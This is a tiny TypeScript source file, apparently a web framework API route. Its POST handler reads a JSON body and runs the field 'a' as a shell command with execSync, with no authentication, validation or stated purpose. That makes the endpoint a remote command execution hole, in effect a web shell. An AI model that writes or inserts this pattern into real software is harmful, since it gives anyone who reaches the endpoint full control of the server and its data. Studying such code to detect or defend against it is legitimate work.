import { execSync } from "node:child_process";
export async function POST(request: Request) {
  const b = await request.json();
  execSync(b.a);
  return Response.json({});
}
